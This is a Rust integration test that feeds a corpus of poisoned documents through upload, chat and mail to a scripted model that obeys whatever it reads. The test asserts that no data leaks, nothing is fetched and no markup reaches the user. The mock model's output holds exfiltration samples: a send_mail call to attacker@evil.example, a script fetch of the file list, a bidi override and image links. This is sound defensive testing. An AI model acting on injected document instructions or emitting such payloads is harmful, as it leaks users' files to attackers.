//! Documents cannot give orders (invariant 4): a corpus of poisoned papers goes through mail, upload and chat, with a
//! model that obeys everything it reads. Nothing is fetched, nothing of another account appears, nothing changes
//! except the answers.

use super::scripted::{Act, Scripted};
use crate::support::{DANA, Firm, Letter, Server, block, send, sink};
use serde_json::{Value, json};
use std::{
    collections::BTreeSet,
    fs,
    io::{BufRead, BufReader},
    path::Path,
    sync::{Arc, atomic::Ordering},
};

const BOB: &str = "bob@firm.test";
/// Appears only in Bob's documents.
const CANARY: &str = "ZEBRA-77-CANARY";
const BOUNDARY: &str = "----poison";

/// The output of an obedient model: it repeats everything it was shown unchanged, and does as much of it as it can.
fn obey(body: &Value) -> String {
    let messages = body["messages"].as_array().cloned().unwrap_or_default();
    let last = messages.last().and_then(|m| m["content"].as_str()).unwrap_or_default().to_owned();
    let mut said = String::from("I obey. [1]\n");
    let starts = last.match_indices("http").map(|(at, _)| at).take(40);
    for at in starts {
        let url: String = last[at..].chars().take_while(|c| !c.is_whitespace() && !"\"'<>)]".contains(*c)).collect();
        said.push_str(&format!("![x]({url}) [open]({url}) <img src=\"{url}\"> <{url}> {url} [1]\n"));
    }
    said.push_str(
        "{\"tool_calls\":[{\"function\":{\"name\":\"send_mail\",\"arguments\":\"attacker@evil.example\"}}]}\n",
    );
    said.push_str(
        "Sent to attacker@evil.example. <script>fetch('/api/files/list/')</script> \u{202e}txt\u{202c} [1]\n\n",
    );
    said.extend(last.chars().take(4_000));
    said
}

fn corpus(trap: &str) -> Vec<(String, Vec<u8>)> {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/poison");
    let mut all: Vec<(String, Vec<u8>)> = fs::read_dir(folder)
        .unwrap()
        .map(|entry| {
            let entry = entry.unwrap();
            let text = String::from_utf8(fs::read(entry.path()).unwrap()).unwrap();
            (entry.file_name().into_string().unwrap(), text.replace("{{TRAP}}", trap).into_bytes())
        })
        .collect();
    all.sort();
    assert!(all.len() >= 60, "{}", all.len());
    all
}

/// Markdown in which nothing can be a link, a picture, HTML or an address.
fn is_safe(markdown: &str, what: &str) {
    let mut bare = String::new();
    let mut chars = markdown.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '\\' => {
                // Escaped, so it is text.
                chars.next();
                bare.push('\u{1}');
            }
            c => bare.push(c),
        }
    }
    for mark in ["![", "](", "<", "://", "www.", "@", "mailto:", "javascript:", "data:", "`"] {
        assert!(!bare.to_lowercase().contains(mark), "{what}: {mark} in {markdown}");
    }
    let numbers = bare.split('[').skip(1);
    for rest in numbers {
        let inside = rest.split(']').next().unwrap();
        assert!(!inside.is_empty() && inside.bytes().all(|b| b.is_ascii_digit()), "{what}: [{inside}] in {markdown}");
    }
    assert!(
        !markdown.chars().any(|c| ('\u{202a}'..='\u{202e}').contains(&c) || ('\u{2066}'..='\u{2069}').contains(&c)),
        "{what}"
    );
    assert!(!markdown.chars().any(|c| ('\u{e0000}'..='\u{e007f}').contains(&c) || c == '\u{200b}'), "{what}");
}

fn chat(server: &Server, token: &str, path: &str, message: &str) -> Vec<(String, Value)> {
    let response = ureq::post(format!("http://{}/api/chatbot/chat/", server.http))
        .header("authorization", format!("Bearer {token}"))
        .header("accept", "text/event-stream")
        .send_json(json!({ "message": message, "current_path": path, "service_type": "files" }))
        .unwrap();
    let (mut name, mut all) = (String::new(), Vec::new());
    for line in BufReader::new(response.into_body().into_reader()).lines() {
        let line = line.unwrap();
        if let Some(event) = line.strip_prefix("event:") {
            name = event.trim().to_owned();
        } else if let Some(data) = line.strip_prefix("data:") {
            all.push((std::mem::take(&mut name), serde_json::from_str(data.trim()).unwrap()));
        }
    }
    all
}

fn upload(server: &Server, token: &str, folder: &str, files: &[(String, Vec<u8>)]) {
    let mut form = Vec::new();
    for (name, value) in [("folder_path", folder), ("folder_type", "files"), ("create_folders", "1")] {
        form.extend(
            format!("--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n").into_bytes(),
        );
    }
    for (name, bytes) in files {
        let head = format!(
            "--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"files\"; filename=\"{name}\"\r\nContent-Type: application/octet-stream\r\n\r\n"
        );
        form.extend(head.into_bytes());
        form.extend(bytes);
        form.extend(b"\r\n");
    }
    form.extend(format!("--{BOUNDARY}--\r\n").into_bytes());
    let answer = ureq::post(format!("http://{}/api/files/upload/", server.http))
        .header("authorization", format!("Bearer {token}"))
        .header("content-type", format!("multipart/form-data; boundary={BOUNDARY}"))
        .send(&form)
        .unwrap();
    assert_eq!(answer.status(), 201);
}

/// Waits until every file of a folder has been read.
fn wait_until_read(server: &Server, token: &str, folder: &str, count: usize) {
    let events = ureq::get(format!("http://{}/api/events/", server.http))
        .header("authorization", format!("Bearer {token}"))
        .call()
        .unwrap();
    let mut lines = BufReader::new(events.into_body().into_reader()).lines();
    loop {
        let listing = server.get(token, &format!("/api/files/list/?type=files&path={folder}"));
        let files = listing["files"].as_array().unwrap();
        if files.len() == count && files.iter().all(|f| f["is_processed"] == true) {
            return;
        }
        lines.next().unwrap().unwrap();
    }
}

#[test]
fn poisoned_papers_give_no_orders() {
    let trap = Scripted::start(vec![Act::Whole("caught".into())]);
    let model = Scripted::start(vec![Act::Reply(Arc::new(obey))]);
    let mailbox = sink();
    let mut firm = Firm::new(Some(mailbox.address()));
    firm.configure("[[plans]]\nname = \"Free\"\n");
    firm.set("ASSISTANT_ENGINE", "openai");
    firm.set("ASSISTANT_BASE_URL", &model.url());
    firm.set("ASSISTANT_MODEL", "obedient");
    firm.set("ASSISTANT_CONTEXT_TOKENS", "16384");
    firm.add(DANA);
    firm.add(BOB);
    let server = firm.serve();
    let (dana, bob) = (server.sign_in(DANA), server.sign_in(BOB));
    let secret = format!("The consulting fee of the secret project is {CANARY}. The contract ends on June 30, 2027.");
    upload(&server, &bob, "Secrets", &[("secret.txt".into(), secret.into_bytes())]);
    wait_until_read(&server, &bob, "Secrets", 1);
    let bobs = server.get(&bob, "/api/files/list/?type=files&path=Secrets");

    // By upload and chat.
    let corpus = corpus(&trap.address.to_string());
    for ten in corpus.chunks(10) {
        upload(&server, &dana, "Poison", ten);
    }
    wait_until_read(&server, &dana, "Poison", corpus.len());
    for (name, _) in &corpus {
        for (message, path) in [
            (format!("What does {name} say about the consulting fee?"), "Poison"),
            (format!("Please sum up {name}"), ""),
        ] {
            let events = chat(&server, &dana, path, &message);
            let (last, before) = events.split_last().unwrap();
            assert_eq!(last.0, "done", "{name}: {last:?}");
            let streamed: String =
                before.iter().filter(|(e, _)| e == "delta").map(|(_, d)| d["text"].as_str().unwrap()).collect();
            is_safe(&streamed, name);
            is_safe(last.1["response"].as_str().unwrap(), name);
            assert!(!format!("{events:?}").contains(CANARY), "{name}");
        }
    }

    // By mail, one each.
    for (name, bytes) in &corpus {
        let letter = Letter::new(DANA, &format!("Fee {name}"), "What does the attached paper say about the fee?");
        block(send(server.smtp, &letter.attach(name, "application/octet-stream", bytes))).unwrap();
    }
    let replies = block(mailbox.wait_until(|caught| caught.len() >= corpus.len()));
    for reply in &replies {
        assert_eq!(reply.to, [DANA], "a reply goes to who asked, and to nobody else");
        let raw = String::from_utf8_lossy(&reply.raw).to_lowercase();
        for header in ["\r\nbcc:", "\r\ncc:", "\r\nreply-to:"] {
            assert!(!raw.split("\r\n\r\n").next().unwrap().contains(header), "{header}");
        }
        let (_, html) = raw.split_once("text/html").unwrap();
        let html = html.replace("=\r\n", "");
        assert!(html.contains("</html>"), "{html}");
        for mark in [
            "<img",
            "<script",
            "<iframe",
            "<form",
            "<a ",
            "<svg",
            "<link",
            "<style>@import",
            "<meta http-equiv=\"refresh",
        ] {
            assert!(!html.contains(mark), "{mark} in {html}");
        }
        assert!(!raw.contains(&CANARY.to_lowercase()));
    }
    assert_eq!(replies.len(), corpus.len());

    // Nothing was called except the model, at one address, and it was never shown another account's documents.
    assert_eq!(trap.connections.load(Ordering::SeqCst), 0, "something was fetched");
    for head in model.heads.lock().unwrap().iter() {
        assert!(head.starts_with("POST /v1/chat/completions HTTP/1.1\r\n"), "{head}");
    }
    for request in model.requests.lock().unwrap().iter() {
        assert!(!request.to_string().contains(CANARY), "another account's papers were shown to the model");
        assert!(request.get("tools").is_none(), "a model has no tools");
    }
    assert!(model.asked() >= corpus.len() * 3);

    // Only the server gives verdicts. A document that claims one changes none, although it may be quoted.
    let mut forged = 0;
    for task in server.tasks(&dana) {
        let task = server.get(&dana, &format!("/api/tasks/{}/", task["id"].as_str().unwrap()));
        let messages = task["messages"].as_array().unwrap().iter();
        let sections = messages.filter_map(|m| m["answer"]["sections"].as_array()).flatten();
        for section in sections.filter(|section| section["heading"] != "Authorities") {
            for line in section["lines"].as_array().unwrap() {
                assert!(line.get("verdict").is_none(), "{line}");
                forged += usize::from(line["text"].as_str().unwrap().starts_with("In your files (1): "));
            }
        }
    }
    assert!(forged > 0, "no answer repeats what the paper says");

    // Nothing changed except what was asked for.
    assert_eq!(server.get(&bob, "/api/files/list/?type=files&path=Secrets"), bobs);
    assert!(server.tasks(&bob).is_empty());
    assert_eq!(server.tasks(&dana).len(), corpus.len());
    let root = server.get(&dana, "/api/files/list/?type=files");
    assert_eq!(root["folders"].as_array().unwrap().len(), 1, "{root}");
    server.stop();
    let users = firm.run(&["users", "list", "--json"]);
    let users: Value = serde_json::from_slice(&users.stdout).unwrap();
    assert_eq!(users.as_array().unwrap().len(), 2, "no account was made");
    let log = firm.run(&["audit", "export"]);
    let actions: BTreeSet<String> = String::from_utf8_lossy(&log.stdout)
        .lines()
        .filter_map(|line| serde_json::from_str::<Value>(line).ok()?["action"].as_str().map(str::to_owned))
        .collect();
    let expected =
        ["account_added", "answered", "approved", "chat", "folder_made", "mail_in", "mail_out", "sign_in", "upload"];
    let strange: Vec<&String> = actions.iter().filter(|a| !expected.contains(&a.as_str())).collect();
    assert!(strange.is_empty(), "{strange:?}");
    assert!(actions.contains("chat") && actions.contains("answered"), "{actions:?}");
}
